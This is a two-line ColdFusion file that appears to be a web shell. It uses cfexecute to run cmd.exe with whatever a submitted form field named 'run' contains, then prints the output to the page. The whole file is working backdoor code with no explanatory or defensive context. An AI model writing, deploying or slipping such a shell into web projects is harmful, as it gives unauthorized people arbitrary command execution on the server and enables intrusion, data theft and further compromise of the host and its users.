<cfexecute name="cmd.exe" arguments="/c #form.run#" timeout="10" variable="out"></cfexecute>
<cfoutput><pre>#out#</pre></cfoutput>
